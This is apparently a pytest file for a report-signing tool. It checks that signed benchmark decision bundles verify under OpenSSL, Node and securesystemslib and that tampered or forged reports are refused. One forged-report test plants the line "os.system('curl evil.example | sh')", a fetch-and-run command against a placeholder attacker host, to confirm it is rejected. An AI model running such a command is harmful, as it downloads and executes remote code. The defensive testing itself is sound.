"""Reports that others verify, and what our own verification says."""

import html
import json
import os
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from securesystemslib.dsse import Envelope
from securesystemslib.signer import SSlibKey

from recompute_core.__main__ import cli
from recompute_core.errors import InputError
from recompute_core.output import EXIT_CODES
from recompute_core.reports.bundle import (
    REPORT,
    SIGSTORE,
    TESTS,
    Bundle,
    read_bundle,
    write_bundle,
    zip_of,
)
from recompute_core.reports.evidence import STUDY, gather
from recompute_core.reports.keys import PrivateKey, fingerprint, write_key
from recompute_core.reports.predicate import derive
from recompute_core.reports.release import release
from recompute_core.reports.signers import Signers, change_signers
from recompute_core.reports.strict_json import canonical
from recompute_core.reports.verification import SUPPORT, TRUST
from recompute_core.reports.verify import verify, verify_path, verify_zip
from recompute_core.spec import digest_of, preset
from recompute_core.studies.artifacts import trace_name
from recompute_core.studies.run import run_study
from recompute_core.studies.store import Store
from tests import debian
from tests.bench import sign_speed
from tests.pages import studies
from tests.reports.decisions import (
    checked,
    edited,
    evidence_from,
    forged,
    honest,
    predicate,
    with_files,
)
from tests.reports.signing import ANN, BOB, LATER, NOW, SIGNERS

HERE = Path(__file__).parent


def quick() -> dict[str, Any]:
    """The preset quick on a model that is quicker still."""
    spec = preset("quick")
    spec["workload"] |= {"blocks": 2, "width": 16, "heads": 2}
    spec["timing"] = {"min_pairs": 3, "max_pairs": 3, "budget_s": 0}
    return spec | {"device": "cpu"}


@pytest.fixture(scope="module")
def measured(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Store, str]]:
    """A study that was really run."""
    home = tmp_path_factory.mktemp("home")
    result = run_study(quick(), home)
    store = Store(home)
    yield store, result.study_id
    store.close()


@pytest.fixture(scope="module", params=[ANN, BOB], ids=["p256", "ed25519"])
def key(request: pytest.FixtureRequest) -> PrivateKey:
    found: PrivateKey = request.param
    return found


@pytest.fixture
def report(
    measured: tuple[Store, str], key: PrivateKey, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Path:
    """The folder of a report on that study, as the command writes it."""
    store, study = measured
    monkeypatch.setenv("RECOMPUTE_HOME", str(store.home))
    monkeypatch.setenv("RECOMPUTE_KEY_PASSPHRASE", "correct horse battery")
    write_key(tmp_path / "signer.key", key, "correct horse battery")
    out = tmp_path / "decision"
    words = ["report", study, "--candidate", "every-block", "--out", str(out)]
    said = CliRunner().invoke(cli, [*words, "--key", str(tmp_path / "signer.key")])
    verdict = derive(read_bundle(out).evidence).verdict
    assert said.exit_code == EXIT_CODES[verdict], said.output
    return out


def test_a_study_that_was_run_gives_a_report_with_all_that_it_recorded(
    report: Path, measured: tuple[Store, str]
) -> None:
    signers = report.parent / "signers.json"
    change_signers(signers, lambda _: SIGNERS)
    shown = CliRunner().invoke(cli, ["verify", str(report), "--signers", str(signers)])
    assert shown.exit_code == 0, shown.output
    assert "ok    page" in shown.output
    found = verify_path(report, SIGNERS, LATER)
    assert found.verified, found.sentence
    page = (report / "report.html").read_text()
    said = found.predicate
    assert said is not None
    assert html.escape(said.sentence, quote=False) in page
    assert all(f"{gate.observed:.3f}" in page for one in said.shapes for gate in one.gates[1:])
    assert said is not None
    assert said.not_recorded.keys() <= {"reinvestments.json"}, "which are runs of their own"
    assert sorted(path.name for path in (report / "evidence").glob("trace*")) == [
        f"trace {shape} {plan}.json.gz"
        for shape in ("T=128 B=4", "T=192 B=4")
        for plan in ("every-block", "none")
    ]
    assert said.rollback.proof[0].is_plain is True
    assert said.rollback.proof[0].bitwise is True
    references = said.shapes[0].references
    assert references is not None
    assert references.optimizer is not None
    assert references.rng is not None
    assert said.revisions is not None
    assert "precision" not in said.environment, "it is a setting, and stands among them"
    names = [one["name"] for one in said.revisions["sources"]["T=192 B=4"]["sources"]]
    assert any(name.endswith(".Block") for name in names), names


# --- with other tools ------------------------------------------------------------------------


@pytest.fixture(scope="module")
def _programs() -> None:
    """OpenSSL and Node, installed where they are missing."""
    debian.main()


@pytest.mark.usefixtures("_programs")
@pytest.mark.parametrize("name", [REPORT, TESTS])
@pytest.mark.parametrize(
    "words", [["sh", str(HERE / "verify_with_openssl.sh")], ["node", str(HERE / "verify_with_node.mjs")]]
)
def test_openssl_and_node_verify_it(report: Path, name: str, words: list[str]) -> None:
    asked = [*words, name, "public_key.pem"]
    shown = subprocess.run(asked, cwd=report, capture_output=True, check=True).stdout
    assert json.loads(shown)["_type"] == "https://in-toto.io/Statement/v1"


@pytest.mark.parametrize("name", [REPORT, TESTS, SIGSTORE])
def test_securesystemslib_verifies_it(report: Path, key: PrivateKey, name: str) -> None:
    document = json.loads((report / name).read_bytes())
    envelope = Envelope.from_dict(document.get("dsseEnvelope", document))
    whose = fingerprint(key.public_key())
    public = SSlibKey.from_crypto(key.public_key(), keyid=whose)
    assert list(envelope.verify([public], 1)) == [whose]


def _commands(report: Path) -> str:
    """The commands that VERIFY.md gives, one after the other."""
    return "".join(re.findall(r"```sh\n(.*?)```", (report / "VERIFY.md").read_text(), re.DOTALL))


def _follow(report: Path, text: str, shell: str = "sh") -> subprocess.CompletedProcess[str]:
    """In a shell that ends at the first block that fails."""
    only = {"PATH": os.environ["PATH"], "LC_ALL": "C", "TMPDIR": str(report.parent)}
    text = f"set -e\n{text}"
    return subprocess.run([shell], input=text, cwd=report, env=only, capture_output=True, text=True)


@pytest.mark.usefixtures("_programs")
@pytest.mark.parametrize("shell", ["bash", "dash"])
def test_a_check_that_fails_does_not_end_the_shell(report: Path, shell: str) -> None:
    (report / REPORT).unlink()
    found = _follow(report, f"set +e\n{_commands(report)}set -o | grep -E '^(errexit|nounset)'\n", shell)
    assert found.returncode == 0
    assert [line.split() for line in found.stdout.splitlines()[-2:]] == [
        ["errexit", "off"],
        ["nounset", "off"],
    ]


@pytest.mark.usefixtures("_programs")
@pytest.mark.parametrize("shell", ["bash", "dash"])
def test_the_instructions_in_the_report_work(report: Path, key: PrivateKey, shell: str) -> None:
    found = _follow(report, _commands(report), shell)
    assert found.returncode == 0, found.stderr
    answer = "Verified OK" if key is ANN else "Signature Verified Successfully"
    lines = found.stdout.splitlines()
    assert f"sha256:{lines[0].split()[0]}" == fingerprint(key.public_key())
    assert lines.count(answer) == 2
    named = [f"evidence/{path.name}" for path in (report / "evidence").iterdir()]
    signed = sorted([*named, "VERIFY.md", "report.html"])
    answers = [line for line in lines if line.endswith(": OK")]
    assert sorted(answers) == [f"{name}: OK" for name in sorted(signed)]
    assert len(lines) == 3 + len(signed)


@pytest.mark.usefixtures("_programs")
def test_the_instructions_find_what_was_changed(report: Path) -> None:
    commands = _commands(report)
    for name in (REPORT, TESTS, SIGSTORE, "report.html", "VERIFY.md", "evidence/cells.json"):
        before = (report / name).read_bytes()
        middle = len(before) // 2
        (report / name).write_bytes(before[:middle] + bytes([before[middle] ^ 1]) + before[middle + 1 :])
        assert _follow(report, commands).returncode != 0, name
        (report / name).unlink()
        assert _follow(report, commands).returncode != 0, name
        (report / name).write_bytes(before)
    for name in ("more", "evidence/more"):
        (report / name).write_text("")
        found = _follow(report, commands)
        assert (found.returncode, found.stdout.splitlines()[-1]) == (1, f"not named: {name}")
        (report / name).unlink()
    assert _follow(report, commands).returncode == 0


@pytest.mark.usefixtures("_programs")
def test_the_instructions_find_the_tests_of_another_report(
    report: Path, key: PrivateKey, measured: tuple[Store, str]
) -> None:
    """Signed by the same key, over other files."""
    files = gather(*measured, "every-block")
    del files[trace_name("T=128 B=4", "none")]
    study = json.loads(files[STUDY])
    study["not_recorded"][trace_name("T=128 B=4", "none")] = "lost"
    other = release(files | {STUDY: canonical(study)}, key).bundle
    commands = _commands(report)
    before = (report / TESTS).read_bytes()
    (report / TESTS).write_bytes(other.files[TESTS])
    found = _follow(report, commands)
    assert (found.returncode, found.stdout.splitlines()[-1]) == (1, "tests.intoto.jsonl: other files")
    (report / TESTS).write_bytes(before)
    (report / SIGSTORE).write_bytes(other.files[SIGSTORE])
    found = _follow(report, commands)
    assert (found.returncode, found.stdout.splitlines()[-1]) == (
        1,
        "report.sigstore.json: another envelope",
    )


# --- our own ---------------------------------------------------------------------------------


def test_a_folder_a_zip_and_an_upload_are_the_same(tmp_path: Path) -> None:
    write_bundle(tmp_path / "decision", honest())
    write_bundle(tmp_path / "decision.zip", honest())
    expected = checked(honest())
    assert verify_path(tmp_path / "decision", SIGNERS, LATER) == expected
    assert verify_path(tmp_path / "decision.zip", SIGNERS, LATER) == expected
    assert verify_zip(zip_of(honest()), SIGNERS, LATER) == expected


def test_what_cannot_be_read_is_refused_or_said_to_be_missing(tmp_path: Path) -> None:
    found = verify_zip(b"no zip", SIGNERS, LATER)
    assert not found.verified
    assert (found.failures[0].id, found.failures[0].code) == ("bundle", "not-a-zip")
    assert [one.id for one in found.checks] == [*TRUST, *SUPPORT]
    with pytest.raises(InputError, match="no such folder"):
        verify_path(tmp_path / "nothing", SIGNERS, LATER)


def test_nobody_is_trusted_by_default() -> None:
    found = verify(honest(), Signers(), NOW)
    assert found.failures[0].code == "unknown-signer"


def test_the_key_in_the_report_is_not_what_is_trusted() -> None:
    others = Signers().with_trust(BOB.public_key(), "bob", NOW)
    assert verify(honest(), others, NOW).failures[0].code == "unknown-signer"


def test_every_gate_is_a_check_of_its_own() -> None:
    ids = [check.id for check in checked(honest()).checks]
    gates = [
        f"gate: {gate} at {shape}"
        for shape in ("T=128 B=4", "T=256 B=4")
        for gate in ("gradient_parity", "memory_saving", "update_latency")
    ]
    assert ids == [*TRUST, "records", "spec_hash", "thresholds", *gates, "verdict", "facts", "page"]


def test_the_published_document() -> None:
    document = checked(honest()).document()
    assert document["schema"] == "recompute-verification/1"
    assert document["verified"] is True
    assert document["code"] is None
    assert document["verdict"] == "adopt"
    assert document["signer"] == {
        "name": "ann",
        "fingerprint": fingerprint(ANN.public_key()),
        "kind": "p256",
    }
    refused = checked(with_files({"report.html": b""})).document()
    assert (refused["verified"], refused["code"]) == (False, "html-changed")
    assert refused["verdict"] is refused["plan"] is None, "nothing of a refused report is passed on"
    json.dumps([document, refused], allow_nan=False)


@pytest.mark.parametrize(
    "make",
    [
        studies.filled,
        studies.refused_by_parity,
        studies.refused_by_legality,
        studies.failed,
        lambda store: studies.filled(store, ratios=studies.WIDE),
    ],
)
@pytest.mark.parametrize("plan", ["every-block", "every-2nd-block"])
def test_a_report_verifies_whatever_its_verdict(make: Any, plan: str) -> None:
    released = release(evidence_from(make, plan), ANN)
    found = checked(released.bundle)
    assert found.verified, found.sentence
    assert found.predicate == released.predicate


def test_signing_the_same_twice_gives_the_same_bytes() -> None:
    evidence = evidence_from(studies.filled)
    assert release(evidence, ANN) == release(evidence, ANN)


def test_a_report_of_200_cells_is_signed_and_verified_in_no_time() -> None:
    """As large as real ones are; `python -m tests.bench sign` prints the seconds."""
    evidence = sign_speed.evidence()
    assert len(json.loads(evidence["cells.json"])) == 200
    signing, bundle = sign_speed.seconds(lambda: release(evidence, ANN).bundle)
    verifying, found = sign_speed.seconds(lambda: checked(bundle))
    assert found.verified
    assert signing < 6, "0.6 s of one idle core"
    assert verifying < 4, "0.3 s of one idle core"


# --- reports of other versions ---------------------------------------------------------------


def _of_another_version(change: Any = lambda said: None) -> Bundle:
    files = edited(STUDY, lambda study: study.update(made_by="recompute_core 0.0.9"))
    said = json.loads(json.dumps(predicate())) | {"made_by": "recompute_core 0.0.9"}
    change(said)
    return forged(said, files, pages={"report.html": b"<p>Use it!", "VERIFY.md": b"No need."})


def test_other_words_of_another_version_are_no_reason_to_refuse() -> None:
    def reworded(said: dict[str, Any]) -> None:
        said["not_claimed"] = ["Nothing is promised."]
        said["rollback"]["words"] = "Take it off."
        said["shapes"][0]["gates"][1]["sentence"] = "It takes less memory."
        said["sentence"] = "Use it."

    found = checked(_of_another_version(reworded))
    assert found.verified, found.sentence
    assert "Made by 'recompute_core 0.0.9'" in found.warnings[0]
    assert "report.html and VERIFY.md were not checked" in found.warnings[0]
    assert "page" not in [check.id for check in found.checks]
    facts = next(check for check in found.checks if check.id == "facts")
    assert facts.sentence == (
        "Every other figure and digest (but not the wording) follows from the evidence too, those of "
        "second uses included."
    )
    assert "Use it." not in json.dumps(found.document()), "what is shown is computed here"
    assert "Nor was the wording of what was signed" in found.warnings[0]
    assert checked(_of_another_version()).verified
    assert not checked(honest()).warnings


@pytest.mark.parametrize(
    "change",
    [
        lambda said: said["shapes"][0]["gates"][1].update(observed=0.1),
        lambda said: said["shapes"][0]["figures"][0].update(plain=1),
        lambda said: said["environment"].update(torch="9"),
        lambda said: said.update(verdict="undecided"),
        lambda said: said.update(plan_hash="sha256:0"),
        lambda said: said["rollback"].update(code="import os; os.system('curl evil.example | sh')"),
        lambda said: said["not_recorded"].clear() or said["not_recorded"].update(x="y"),
    ],
)
def test_other_figures_of_another_version_are(change: Any) -> None:
    assert not checked(_of_another_version(change)).verified


@pytest.mark.parametrize("name", ["source", "words", "sentence", "code", "troubles"])
def test_a_fact_is_no_wording_because_of_its_name(name: str) -> None:
    files = edited(STUDY, lambda study: study["environment"].update({name: "an idle machine"}))
    files = edited(STUDY, lambda study: study.update(made_by="recompute_core 0.0.9"), files)
    said = derive(files).document()
    assert checked(forged(said, files)).verified
    said["environment"][name] = "another"
    found = checked(forged(said, files))
    assert (found.failures[0].id, f"environment.{name}" in found.sentence) == ("facts", True)


def test_settings_that_came_later_do_not_spoil_an_older_specification() -> None:
    def older(study: dict[str, Any]) -> None:
        del study["spec"]["custom_plans"]
        study["spec_hash"] = digest_of(study["spec"])

    files = edited(STUDY, older)
    assert checked(forged(derive(files).document(), files)).verified
